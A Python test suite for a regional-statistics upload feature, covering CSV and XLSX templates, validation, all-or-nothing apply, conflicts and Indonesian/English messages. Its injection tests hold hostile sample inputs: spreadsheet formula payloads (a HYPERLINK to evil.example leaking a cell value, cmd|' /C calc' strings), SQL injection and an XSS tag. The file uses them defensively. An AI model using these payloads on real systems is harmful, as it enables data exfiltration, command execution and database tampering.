"""Upload of offices' values: template, preview (nothing written), apply (all or nothing)."""

from __future__ import annotations

import csv
import io
import pickle
import re

import openpyxl
import pytest
import sqlalchemy as sa

from auth.accounts import Account
from auth.scope import ScopeError
from geodata.registry import Region, Registry
from ingest import upload
from ingest.entry import ConflictError, Target, history, save_draft, withdraw
from ingest.upload import (
    MAX_BYTES,
    MAX_ROWS,
    Preview,
    UploadConflictError,
    UploadError,
    apply,
    preview,
    template,
    template_regions,
)
from presentation.cells import safe_cell
from queries.catalogue import Indicator, load_catalogue_file, read_catalogue
from queries.schema import audit_log, observation
from tests.tiny import BANDUNG, JABAR, PUSAT, VIEWER, tiny_registry

HEADER = "indicator,level,code,name,year,value,reason"
IND = "turnout_pilkada"  # defined down to kecamatan, periods include 2024


@pytest.fixture(scope="module")
def catalogue_file() -> dict[str, Indicator]:
    return load_catalogue_file()


@pytest.fixture
def catalogue(engine: sa.Engine) -> dict[str, Indicator]:
    with engine.connect() as conn:
        return read_catalogue(conn)


def snapshot(engine: sa.Engine) -> tuple[list[tuple[object, ...]], list[tuple[object, ...]]]:
    """Every observation and audit row, to prove that nothing changed."""
    with engine.connect() as conn:
        return ([tuple(r) for r in conn.execute(sa.select(observation).order_by(observation.c.id))],
                [tuple(r) for r in conn.execute(sa.select(audit_log).order_by(audit_log.c.id))])


def csv_file(*lines: str, header: str = HEADER) -> bytes:
    return ("\n".join((header, *lines)) + "\n").encode()


def run_preview(engine: sa.Engine, registry: Registry, catalogue: dict[str, Indicator],
                data: bytes, filename: str = "isian.csv", account: Account = BANDUNG) -> Preview:
    with engine.connect() as conn:
        return preview(conn, registry, catalogue, account, filename, data)


def fill(data: bytes, fmt: str, values: dict[str, object]) -> bytes:
    """Fill the value column of a downloaded template, as an operator would."""
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for row in rows[1:]:
            if row[2] in values:
                row[5] = str(values[row[2]])
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        return out.getvalue().encode("utf-8-sig")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    for (code_cell,) in ws.iter_rows(min_row=2, min_col=3, max_col=3):
        if code_cell.value in values:
            ws.cell(code_cell.row, 6).value = values[code_cell.value]
    out_bytes = io.BytesIO()
    wb.save(out_bytes)
    return out_bytes.getvalue()


def xlsx(rows: list[list[object]], build: object = None) -> bytes:
    """Build a workbook with openpyxl; ``build(wb)`` may add sheets, merges, formulas."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "isian"
    for row in [HEADER.split(","), *rows]:
        ws.append(row)
    if callable(build):
        build(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def english(p: Preview) -> tuple[str, ...]:
    """The preview's problems in English (``str`` of each message)."""
    return tuple(map(str, p.errors))


def only_error(p: Preview, lang: str = "en") -> str:
    assert not p.ok
    assert len(p.errors) == 1, p.errors
    return p.errors[0].text(lang)


# ----------------------------------------------------------------------------- safe_cell


@pytest.mark.parametrize(("text", "expected"), [
    ('=HYPERLINK("http://evil.example","klik")', '\'=HYPERLINK("http://evil.example","klik")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'; DROP TABLE observation; --", "'; DROP TABLE observation; --"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("Kota Bandung", "Kota Bandung"),
    ("-12.5", "-12.5"),
    ("+62", "+62"),
    ("", ""),
])
def test_safe_cell_neutralises_formulas(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


def test_safe_cell_keeps_numbers() -> None:
    assert safe_cell(-12.5) == -12.5 and safe_cell(3) == 3 and safe_cell(None) is None


# ------------------------------------------------------------------------------ template


def test_template_lists_the_scope_at_the_indicator_levels(
        registry: Registry, catalogue_file: dict[str, Indicator]) -> None:
    kecamatan = [r.code for r in registry.children("32.73")]
    rows = list(csv.reader(io.StringIO(
        template(registry, catalogue_file, BANDUNG, IND, 2024, "csv").decode("utf-8-sig"))))
    assert [c.split(" ")[0] for c in rows[0]] == [*HEADER.split(","), "current_value"]
    assert rows[0][5] == "value (% pemilih terdaftar (DPT); 0 s.d. 100)"
    assert [r[2] for r in rows[1:]] == ["32.73", *kecamatan]
    assert rows[1] == [IND, "kabkota", "32.73", "Kota Bandung", "2024", "", "", ""]
    assert rows[2][:4] == [IND, "kecamatan", "32.73.01", "Sukasari"]

    # A province operator: the province, its kab/kota, and kecamatan only where defined.
    ihai = template_regions(registry, JABAR.scope, catalogue_file["ihai"])
    assert [r.code for r in ihai] == ["32", *[r.code for r in registry.children("32")]]
    turnout = template_regions(registry, JABAR.scope, catalogue_file[IND])
    assert {r.level for r in turnout} == {"provinsi", "kabkota", "kecamatan"}
    assert all(r.code == "32" or r.code.startswith("32.") for r in turnout)
    assert [r.code for r in turnout][:3] == ["32", "32.01", "32.01.01"]  # parents first
    # A kab/kota operator and an indicator defined down to provinsi: nothing to enter.
    assert template_regions(registry, BANDUNG.scope, catalogue_file["idi"]) == []
    # Pusat: the national figure and every province.
    idi = template_regions(registry, PUSAT.scope, catalogue_file["idi"])
    assert [r.code for r in idi][:2] == ["ID", "11"] and len(idi) == 39


def test_template_xlsx_is_one_plain_sheet(registry: Registry,
                                          catalogue_file: dict[str, Indicator]) -> None:
    data = template(registry, catalogue_file, BANDUNG, "konflik", 2024, "xlsx", lang="en")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["isian"]
    ws = wb.active
    assert not ws.merged_cells.ranges
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert [c.value for c in ws[1]][5] == "value (incidents; at least 0; whole number)"
    assert "empty is not zero" in ws["F1"].comment.text
    assert [c.value for c in ws[2]][:5] == ["konflik", "kabkota", "32.73", "Kota Bandung", 2024]
    assert ws["C2"].data_type == "s" and ws["C2"].number_format == "@"
    assert ws.max_row == 1 + 1 + 30  # header, Kota Bandung, its 30 kecamatan


def test_template_refusals(registry: Registry, catalogue_file: dict[str, Indicator]) -> None:
    with pytest.raises(UploadError, match="unknown indicator 'nope'"):
        template(registry, catalogue_file, BANDUNG, "nope", 2024, "csv")
    with pytest.raises(UploadError, match="turnout_pilkada has no period 2023"):
        template(registry, catalogue_file, BANDUNG, IND, 2023, "csv")
    with pytest.raises(UploadError, match="unknown format 'ods'"):
        template(registry, catalogue_file, BANDUNG, IND, 2024, "ods")  # type: ignore[arg-type]
    with pytest.raises(ScopeError, match="viewer may not write"):
        template(registry, catalogue_file, VIEWER, IND, 2024, "csv")


def test_template_neutralises_injected_names(catalogue_file: dict[str, Indicator]) -> None:
    evil = '=HYPERLINK("http://evil.example","klik")'
    registry = tiny_registry(Region("32.73.03", "kecamatan", evil, "32.73"),
                             Region("32.73.04", "kecamatan", "@SUM(1+1)", "32.73"))
    text = template(registry, catalogue_file, BANDUNG, IND, 2024, "csv").decode("utf-8-sig")
    names = [r[3] for r in csv.reader(io.StringIO(text))][1:]
    assert "'" + evil in names and "'@SUM(1+1)" in names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
    ws = openpyxl.load_workbook(io.BytesIO(
        template(registry, catalogue_file, BANDUNG, IND, 2024, "xlsx"))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + evil in [c.value for c in cells]


# ------------------------------------------------------------------------- round trip


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_template_round_trip(engine: sa.Engine, registry: Registry,
                             catalogue: dict[str, Indicator], fmt: str) -> None:
    data = template(registry, catalogue, BANDUNG, IND, 2024, fmt)  # type: ignore[arg-type]
    # Kecamatan 32.73.02 is left empty: no change, not zero. A decimal comma is accepted.
    filled = fill(data, fmt, {"32.73": 71.25, "32.73.01": "68,5", "32.73.03": 80})
    name = f"isian.{fmt}"
    p = run_preview(engine, registry, catalogue, filled, name)
    assert p.ok, p.errors
    assert p.totals == {"new": 3, "changed": 0, "unchanged": 0, "skipped": 28, "error": 0}
    assert {r.code: r.value for r in p.rows if r.status == "new"} == {
        "32.73": 71.25, "32.73.01": 68.5, "32.73.03": 80.0}
    assert p.rows[0].row == 2 and p.rows[0].base_version is None
    assert snapshot(engine)[0] == []  # a preview writes nothing

    with engine.begin() as conn:
        report = apply(conn, registry, catalogue, BANDUNG, p, remote_addr="10.0.0.7")
    assert (report.new, report.changed, report.written) == (3, 0, 3)
    with engine.connect() as conn:
        versions = history(conn, BANDUNG.scope, IND, "32.73.01", 2024)
        assert [(v.version, v.value, v.status, v.recorded_by) for v in versions] == [
            (1, 68.5, "draft", "kotabandung")]
        assert history(conn, BANDUNG.scope, IND, "32.73.02", 2024) == []
        upload_audit = conn.execute(sa.select(audit_log.c.target, audit_log.c.detail,
                                              audit_log.c.remote_addr)
                                    .where(audit_log.c.action == "upload.apply")).one()
    assert upload_audit[0] == name and upload_audit[1].startswith(f"sha256:{p.sha256} new 3")
    assert upload_audit[2] == "10.0.0.7"

    # Re-uploading the same file changes nothing, not even the audit log.
    before = snapshot(engine)
    again = run_preview(engine, registry, catalogue, filled, name)
    assert again.totals == {"new": 0, "changed": 0, "unchanged": 3, "skipped": 28, "error": 0}
    with engine.begin() as conn:
        assert apply(conn, registry, catalogue, BANDUNG, again).written == 0
    assert snapshot(engine) == before

    # A fresh template shows the stored values; a change becomes version 2.
    with engine.connect() as conn:
        data = template(registry, catalogue, BANDUNG, IND, 2024, fmt,  # type: ignore[arg-type]
                        conn=conn)
    changed = fill(data, fmt, {"32.73.01": 69})
    p = run_preview(engine, registry, catalogue, changed, name)
    row = next(r for r in p.rows if r.code == "32.73.01")
    assert (row.status, row.current, row.base_version, row.value) == ("changed", 68.5, 1, 69.0)
    with engine.begin() as conn:
        assert apply(conn, registry, catalogue, BANDUNG, p).versions == (
            (IND, "32.73.01", 2024, 2),)


def test_withdrawn_value_is_entered_again(engine: sa.Engine, registry: Registry,
                                          catalogue: dict[str, Indicator]) -> None:
    target = Target(catalogue[IND], "32.73", 2024)
    with engine.begin() as conn:
        v1 = save_draft(conn, registry, BANDUNG, target, 70.0, base_version=None)
        withdraw(conn, BANDUNG, target, base_version=v1, reason="salah input")
    p = run_preview(engine, registry, catalogue,
                    csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,70,"))
    assert (p.rows[0].status, p.rows[0].current_status, p.rows[0].base_version) == (
        "changed", "withdrawn", 2)


def test_semicolon_csv_with_decimal_commas(engine: sa.Engine, registry: Registry,
                                           catalogue: dict[str, Indicator]) -> None:
    data = ("indicator;level;code;name;year;value;reason\n"
            f"{IND};kabkota;32.73;Kota Bandung;2024;79,81;angka KPU\n"
            f"{IND};kecamatan;32.73.02;Kec. Coblong;2024;,5;\n").encode()
    p = run_preview(engine, registry, catalogue, data)
    assert p.ok, p.errors
    assert [(r.value, r.reason) for r in p.rows] == [(79.81, "angka KPU"), (0.5, "")]


# ------------------------------------------------------------------------ bad rows


def test_one_bad_row_rejects_the_whole_file(engine: sa.Engine, registry: Registry,
                                            catalogue: dict[str, Indicator]) -> None:
    with engine.begin() as conn:
        save_draft(conn, registry, BANDUNG, Target(catalogue[IND], "32.73.05", 2024), 60.0,
                   base_version=None)
    before = snapshot(engine)
    data = csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,70,",
                    f"{IND},kecamatan,32.73.01,Sukasari,2024,71,",
                    f"{IND},kecamatan,32.73.02,Coblong,2024,101,",
                    f"{IND},kecamatan,32.73.05,Andir,2024,61,")
    p = run_preview(engine, registry, catalogue, data)
    assert not p.ok
    assert english(p) == ("row 4, column value: 101 is outside the range of turnout_pilkada "
                          "(0 to 100)",)
    assert [r.status for r in p.rows] == ["new", "new", "error", "changed"]
    with engine.begin() as conn, pytest.raises(UploadError, match="1 problem.*nothing was saved"):
        apply(conn, registry, catalogue, BANDUNG, p)
    assert snapshot(engine) == before


@pytest.mark.parametrize(("line", "expected"), [
    (f"{IND},kabkota,32.99,Kota Antah,2024,70,",
     "row 2, column code: unknown region code '32.99'"),
    (f"{IND},kabkota,32.1,Kota Bandung,2024,70,",
     "row 2, column code: unknown region code '32.1' (a trailing zero may have been dropped"),
    (f"{IND},kabkota,32.73,Kabupaten Bandung,2024,70,",
     "row 2, column name: 'Kabupaten Bandung' does not match code 32.73 (Kota Bandung)"),
    (f"{IND},kabkota,32.73,,2024,70,",
     "row 2, column name: empty name; expected 'Kota Bandung'"),
    (f"{IND},kabkota,32.01,Kabupaten Bogor,2024,70,",
     "row 2, column code: 32.01 (Kabupaten Bogor) is outside your region Kota Bandung (32.73)"),
    (f"{IND},provinsi,32,Jawa Barat,2024,70,",
     "row 2, column code: 32 (Jawa Barat) is outside your region Kota Bandung (32.73)"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,100.5,",
     "row 2, column value: 100.5 is outside the range of turnout_pilkada (0 to 100)"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,-1,",
     "row 2, column value: -1 is outside the range"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,tujuh puluh,",
     "row 2, column value: not a number: 'tujuh puluh'; expected a number such as 79.81"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,79.81%,",
     "row 2, column value: not a number: '79.81%'"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,=1+1,",
     "row 2, column value: not a number: '=1+1'"),
    (f'{IND},kabkota,32.73,Kota Bandung,2024,"1.234,5",',
     "row 2, column value: '1.234,5' has thousands separators"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,1 234,",
     "row 2, column value: '1 234' has thousands separators"),
    ("konflik,kabkota,32.73,Kota Bandung,2024,1.234,",
     "row 2, column value: konflik counts whole incidents; got 1.234 - thousands separators"),
    (f"{IND},kecamatan,32.73,Kota Bandung,2024,70,",
     "row 2, column level: 32.73 is a kabkota code, but level says kecamatan"),
    (f"{IND},kota,32.73,Kota Bandung,2024,70,",
     "row 2, column level: unknown level 'kota'"),
    ("idi,kabkota,32.73,Kota Bandung,2024,70,",
     "row 2, column level: idi is not defined below provinsi"),
    (f"{IND},kabkota,32.73,Kota Bandung,2023,70,",
     "row 2, column year: turnout_pilkada has no period 2023"),
    (f"{IND},kabkota,32.73,Kota Bandung,24,70,",
     "row 2, column year: bad year '24'"),
    ("idx,kabkota,32.73,Kota Bandung,2024,70,",
     "row 2, column indicator: unknown indicator 'idx'"),
    (f"{IND},kabkota,32.73,Kota Bandung,2024,70,{'x' * 2001}",
     "row 2, column reason: 2001 characters; at most 2000"),
], ids=[
    "unknown-code", "dropped-zero", "wrong-name", "empty-name", "other-kabkota",
    "province-above", "above-range", "below-range", "words", "percent", "formula", "thousands",
    "space-thousands", "count-thousands", "level-mismatch", "unknown-level",
    "not-defined-at-level", "period", "short-year", "unknown-indicator", "long-reason"
])
def test_each_bad_row_is_named(engine: sa.Engine, registry: Registry,
                               catalogue: dict[str, Indicator], line: str,
                               expected: str) -> None:
    before = snapshot(engine)
    p = run_preview(engine, registry, catalogue, csv_file(line))
    assert only_error(p).startswith(expected), p.errors
    assert p.rows[0].status == "error" and p.rows[0].errors == p.errors
    assert snapshot(engine) == before


def test_unquoted_decimal_comma_is_not_split_silently(
        engine: sa.Engine, registry: Registry, catalogue: dict[str, Indicator]) -> None:
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,79,81,",
        f"{IND},kecamatan,32.73.01,Sukasari,2024,70,"))
    assert english(p) == ('row 2: 8 cells, but the header has 7 columns; put a decimal comma '
                          'inside quotes ("79,81"), write 79.81, or separate the columns with '
                          "semicolons",)
    for line in (f"{IND},kabkota,32.73,Kota Bandung,2024,79,81",  # trailing cells dropped
                 f"{IND},kabkota,32.73,Kota Bandung,2024,79,81,,"):
        p = run_preview(engine, registry, catalogue, csv_file(
            line, header=HEADER + ",current_value"))
        assert re.match(r"row 2: \d cells, but the header has 8 columns", only_error(p))


def test_duplicates_and_missing_columns(engine: sa.Engine, registry: Registry,
                                       catalogue: dict[str, Indicator]) -> None:
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,70,",
        f"{IND},kecamatan,32.73.01,Sukasari,2024,70,",
        f"{IND},kabkota,32.73,Kota Bandung,2024,71,"))
    assert only_error(p) == (f"row 4, column code: duplicate of row 2 ({IND}, 32.73, 2024)")
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,70", header="indicator,level,code,name,value"))
    assert only_error(p) == ("row 1: missing column year; the header must name "
                             "indicator,level,code,name,year,value (optional: reason)")
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,70,71", header=HEADER.replace("reason", "value")))
    assert only_error(p) == "row 1: column value appears twice (columns F and G)"
    # Extra columns (the template's current_value, a note) are ignored.
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,70,,55,catatan",
        header=HEADER + ",current_value (nilai tersimpan),catatan"))
    assert p.ok and p.rows[0].value == 70.0


def test_empty_values_are_skipped_not_zero(engine: sa.Engine, registry: Registry,
                                           catalogue: dict[str, Indicator]) -> None:
    data = csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,,",
                    ",,,,,,",  # a blank row is ignored
                    f"{IND},kecamatan,32.73.01,Sukasari,2024,  ,")
    p = run_preview(engine, registry, catalogue, data)
    assert [(r.row, r.status, r.value) for r in p.rows] == [(2, "skipped", None),
                                                            (4, "skipped", None)]
    assert only_error(p).startswith("every value cell is empty")
    assert only_error(run_preview(engine, registry, catalogue, csv_file())) == (
        "no data rows below the header")


def test_accounts_that_may_not_upload(engine: sa.Engine, registry: Registry,
                                      catalogue: dict[str, Indicator]) -> None:
    data = csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,70,")
    p = run_preview(engine, registry, catalogue, data, account=VIEWER)
    assert only_error(p) == "your account (Viewer) may not enter values"
    assert only_error(p, "id") == "akun Anda (Pengamat) tidak boleh mengisi nilai"
    p = run_preview(engine, registry, catalogue, data, account=JABAR)  # the province may
    assert p.ok
    with engine.begin() as conn, pytest.raises(UploadError, match="checked for 'jabar'"):
        apply(conn, registry, catalogue, BANDUNG, p)
    assert snapshot(engine) == ([], [])


# ------------------------------------------------------------------------------ files


def test_csv_encodings(engine: sa.Engine, registry: Registry,
                       catalogue: dict[str, Indicator]) -> None:
    text = f"{HEADER}\n{IND},kabkota,32.73,Kota Bandung,2024,70,catatan café\n"
    p = run_preview(engine, registry, catalogue, text.encode("latin-1"))
    assert only_error(p) == ("row 2: not UTF-8 text (byte 106: b'\\xe9'); in Excel choose File "
                             "> Save As > 'CSV UTF-8 (Comma delimited) (*.csv)'")
    p = run_preview(engine, registry, catalogue, text.encode("utf-8-sig"))
    assert p.ok and p.rows[0].reason == "catatan café"
    # Excel's "Unicode Text": UTF-16 with a byte-order mark, tab-separated.
    tsv = text.replace(",", "\t")
    for encoding in ("utf-16", "utf-16-be"):
        data = tsv.encode(encoding)
        if encoding == "utf-16-be":
            data = b"\xfe\xff" + data
        p = run_preview(engine, registry, catalogue, data, filename="isian.txt")
        assert p.ok, p.errors
        assert (p.rows[0].value, p.rows[0].reason) == (70.0, "catatan café")
    p = run_preview(engine, registry, catalogue, tsv.encode("utf-16-le"))  # no byte-order mark
    assert "NUL bytes (UTF-16 without a byte-order mark?)" in only_error(p)


@pytest.fixture
def no_db() -> sa.Engine:
    """An empty database, for files refused before any value is looked up."""
    return sa.create_engine("sqlite://")


def test_file_type_size_and_rows_limits(no_db: sa.Engine, registry: Registry,
                                        catalogue_file: dict[str, Indicator]) -> None:
    engine, catalogue = no_db, catalogue_file
    line = f"{IND},kabkota,32.73,Kota Bandung,2024,70,"
    assert only_error(run_preview(engine, registry, catalogue, b"x", filename="isian.xls")) == (
        "unsupported file type '.xls'; upload the template as .xlsx or as CSV UTF-8 (.csv)")
    assert only_error(run_preview(engine, registry, catalogue, b"")) == "the file is empty"
    big = csv_file(line) + b" " * MAX_BYTES
    assert only_error(run_preview(engine, registry, catalogue, big)) == (
        "the file is 5.0 MB, more than the limit of 5 MB; split it into smaller files")
    many = csv_file(*[line] * (MAX_ROWS + 1))
    assert len(many) < MAX_BYTES
    assert only_error(run_preview(engine, registry, catalogue, many)) == (
        "more than 20,000 data rows; the limit is 20,000: split the file into smaller ones")
    rows = [line.split(",")] * (MAX_ROWS + 1)
    assert only_error(run_preview(engine, registry, catalogue, xlsx(rows), "isian.xlsx")) == (
        "20,001 data rows; the limit is 20,000: split the file into smaller ones")
    fake = run_preview(engine, registry, catalogue, csv_file(line), "isian.xlsx")
    assert only_error(fake).startswith("not an XLSX workbook (an old .xls file?)")


GOOD = [IND, "kabkota", "32.73", "Kota Bandung", 2024, 70.5, ""]


def test_xlsx_accepted(engine: sa.Engine, registry: Registry,
                       catalogue: dict[str, Indicator]) -> None:
    rows = [GOOD, [IND, "kecamatan", "32.73.01", "Sukasari", "2024", "68,25", "alasan"],
            [None] * 7]
    p = run_preview(engine, registry, catalogue, xlsx(rows), "isian.xlsx")
    assert p.ok, p.errors
    assert [(r.row, r.value, r.period) for r in p.rows] == [(2, 70.5, 2024), (3, 68.25, 2024)]


def _two_sheets(wb: openpyxl.Workbook) -> None:
    wb.create_sheet("Petunjuk")["A1"] = "isi kolom value"


def _merged(wb: openpyxl.Workbook) -> None:
    wb.active.merge_cells("F2:G2")


def _formula(wb: openpyxl.Workbook) -> None:
    wb.active["F2"] = "=1+1"


@pytest.mark.parametrize(("build", "expected"), [
    (_two_sheets, "the workbook has 2 sheets ('isian', 'Petunjuk'); keep only the data sheet: "
                  "delete 'Petunjuk'"),
    (_merged, "merged cells F2:G2 on sheet 'isian'; unmerge them"),
    (_formula, "row 2, column value (cell F2): a formula '=1+1'; values must be plain numbers"),
], ids=["two-sheets", "merged", "formula"])
def test_xlsx_refused(no_db: sa.Engine, registry: Registry,
                      catalogue_file: dict[str, Indicator], build: object, expected: str) -> None:
    p = run_preview(no_db, registry, catalogue_file, xlsx([GOOD], build), "isian.xlsx")
    assert only_error(p).startswith(expected), p.errors
    assert p.rows == ()


def test_xlsx_numeric_code_and_bad_cells(engine: sa.Engine, registry: Registry,
                                         catalogue: dict[str, Indicator]) -> None:
    rows = [[IND, "kabkota", 32.73, "Kota Bandung", 2024, True, ""],
            [IND, "kecamatan", "32.73.01", "Sukasari", 2024.0, 70, ""]]
    p = run_preview(engine, registry, catalogue, xlsx(rows), "isian.xlsx")
    assert english(p) == ("row 2, column value: True is not a number",)
    assert p.rows[1].status == "new"


# --------------------------------------------------------------------------- injection


def test_injection_strings_are_stored_as_text(engine: sa.Engine, registry: Registry,
                                              catalogue: dict[str, Indicator]) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    drop = "'; DROP TABLE observation; --"
    out = io.StringIO()
    csv.writer(out).writerows([
        HEADER.split(","),
        [IND, "kabkota", "32.73", "Kota Bandung", "2024", "70", hyperlink],
        [IND, "kecamatan", "32.73.01", "Sukasari", "2024", "71", drop],
        [IND, "kecamatan", "32.73.02", "Coblong", "2024", "72", "<script>alert(1)</script>"],
    ])
    p = run_preview(engine, registry, catalogue, out.getvalue().encode())
    assert p.ok, p.errors
    with engine.begin() as conn:
        apply(conn, registry, catalogue, BANDUNG, p)
    with engine.connect() as conn:
        result = conn.execute(sa.select(observation.c.region_code, observation.c.reason))
        reasons = {code: reason for code, reason in result}
    assert reasons == {"32.73": hyperlink, "32.73.01": drop,
                       "32.73.02": "<script>alert(1)</script>"}
    assert safe_cell(reasons["32.73"]) == "'" + hyperlink  # as any export must write it

    # In identifying columns they are errors, quoted, and nothing is written.
    before = snapshot(engine)
    out = io.StringIO()
    csv.writer(out).writerows([
        HEADER.split(","),
        [IND, "kabkota", "32.73", "<script>alert(1)</script>", "2024", "70", ""],
        [IND, "kabkota", "32.73' OR '1'='1", "Kota Bandung", "2024", "70", ""],
        [drop, "kabkota", "32.73", "Kota Bandung", "2024", "70", ""],
    ])
    p = run_preview(engine, registry, catalogue, out.getvalue().encode())
    errors = english(p)
    assert errors[0] == ("row 2, column name: '<script>alert(1)</script>' does not match "
                         "code 32.73 (Kota Bandung)")
    assert errors[1] == "row 3, column code: unknown region code \"32.73' OR '1'='1\""
    assert errors[2].startswith(f"row 4, column indicator: unknown indicator {drop!r}")
    assert snapshot(engine) == before


# ---------------------------------------------------------------------------- conflicts


def test_conflict_between_preview_and_apply_rolls_back_everything(
        engine: sa.Engine, registry: Registry, catalogue: dict[str, Indicator]) -> None:
    target = Target(catalogue[IND], "32.73.05", 2024)
    with engine.begin() as conn:
        save_draft(conn, registry, BANDUNG, target, 60.0, base_version=None)
    data = csv_file(f"{IND},kabkota,32.73,Kota Bandung,2024,70,",
                    f"{IND},kecamatan,32.73.01,Sukasari,2024,71,",
                    f"{IND},kecamatan,32.73.05,Andir,2024,61,")
    p = run_preview(engine, registry, catalogue, data)
    assert [r.status for r in p.rows] == ["new", "new", "changed"]
    # The province corrects Andir after the preview was made.
    with engine.begin() as conn:
        save_draft(conn, registry, JABAR, target, 62.0, base_version=1)
    before = snapshot(engine)
    message = re.escape(f"row 4 ({IND} 32.73.05 2024): changed meanwhile by jabar")
    with pytest.raises(ConflictError, match=message) as caught:
        with engine.begin() as conn:
            apply(conn, registry, catalogue, BANDUNG, p)
    assert isinstance(caught.value, UploadConflictError)
    assert re.match(r"baris 4 \(turnout_pilkada 32\.73\.05 2024\): nilai sudah diubah oleh jabar "
                    r"pada .* UTC \(sekarang versi 2, Draf\); muat ulang halaman lalu coba lagi; "
                    "tidak ada isian dari berkas ini yang tersimpan",
                    caught.value.message.text("id"))
    assert caught.value.current is not None and caught.value.current.value == 62.0
    assert snapshot(engine) == before

    # Previewing again shows the province's value; applying then works.
    p = run_preview(engine, registry, catalogue, data)
    assert p.rows[2].current == 62.0 and p.rows[2].base_version == 2
    with engine.begin() as conn:
        assert apply(conn, registry, catalogue, BANDUNG, p).written == 3


def test_preview_records_for_a_grid(engine: sa.Engine, registry: Registry,
                                    catalogue: dict[str, Indicator]) -> None:
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,70,", f"{IND},kabkota,32.99,X,2024,70,"))
    assert p.records("en") == [
        {"row": 2, "indicator": IND, "level": "kabkota", "code": "32.73", "name": "Kota Bandung",
         "year": 2024, "value": 70.0, "current": None, "current_status": None, "status": "new",
         "errors": ""},
        {"row": 3, "indicator": IND, "level": "kabkota", "code": "32.99", "name": "X",
         "year": 2024, "value": 70.0, "current": None, "current_status": None,
         "status": "error", "errors": "row 3, column code: unknown region code '32.99'"},
    ]
    assert p.records()[1]["errors"] == "baris 3, kolom code: kode wilayah '32.99' tidak dikenal"
    assert upload.STATUSES == tuple(p.totals)
    kept = pickle.loads(pickle.dumps(p))  # a page can keep it in the server cache
    assert kept == p and kept.records("id") == p.records("id")


def test_problems_are_written_in_the_user_language(engine: sa.Engine, registry: Registry,
                                                  catalogue: dict[str, Indicator]) -> None:
    p = run_preview(engine, registry, catalogue, csv_file(
        f"{IND},kabkota,32.73,Kota Bandung,2024,1o1,",
        f"{IND},kabkota,32.99,Kota Antah,2024,70,",
        f"{IND},kecamatan,32.73.01,Sukasari,2024,101,",
        f"{IND},kabkota,32.01,Kabupaten Bogor,2024,70,",
        f"{IND},kabkota,32.73,Kota Bandung,2023,70,",
        "konflik,kabkota,32.73,Kota Bandung,2024,\"1,234\","))
    assert [e.text("id") for e in p.errors] == [
        "baris 2, kolom value: bukan angka: '1o1'; tulis angka seperti 79,81 atau 79.81 "
        "(tanpa satuan, tanpa tanda %)",
        "baris 3, kolom code: kode wilayah '32.99' tidak dikenal",
        "baris 4, kolom value: 101 di luar rentang turnout_pilkada (0 s.d. 100)",
        "baris 5, kolom code: 32.01 (Kabupaten Bogor) di luar wilayah Anda, Kota Bandung "
        "(32.73); Anda boleh mengisi nilai untuk 32.73 dan wilayah di dalamnya",
        "baris 6, kolom year: turnout_pilkada tidak memiliki periode 2023; periode yang ada: "
        + ", ".join(map(str, catalogue[IND].periods)),
        "baris 7, kolom value: konflik harus bilangan bulat (insiden); tertulis 1,234 - "
        "pemisah ribuan tidak boleh; tulis 1234, bukan 1.234",
    ]
    assert english(p)[:4] == (
        "row 2, column value: not a number: '1o1'; expected a number such as 79.81 or 79,81 "
        "(no units, no % sign)",
        "row 3, column code: unknown region code '32.99'",
        "row 4, column value: 101 is outside the range of turnout_pilkada (0 to 100)",
        "row 5, column code: 32.01 (Kabupaten Bogor) is outside your region Kota Bandung "
        "(32.73); you may enter values for 32.73 and the regions in it",
    )
    assert english(p)[5].startswith("row 7, column value: konflik counts whole incidents")
    grid = {r["row"]: r["errors"] for r in p.records("id")}
    assert grid[3] == "baris 3, kolom code: kode wilayah '32.99' tidak dikenal"
    assert {r["row"]: r["errors"] for r in p.records("en")}[3] == (
        "row 3, column code: unknown region code '32.99'")
    # File-level problems, and the refusal to apply, in both languages.
    p = run_preview(engine, registry, catalogue, csv_file(), filename="isian.csv")
    assert (only_error(p, "id"), only_error(p, "en")) == (
        "tidak ada baris data di bawah baris judul", "no data rows below the header")
    p = run_preview(engine, registry, catalogue, "é".encode("latin-1"))
    assert only_error(p, "id").startswith("baris 1: bukan teks UTF-8 (byte ke-0: b'\\xe9'); di "
                                          "Excel pilih File > Simpan Sebagai")
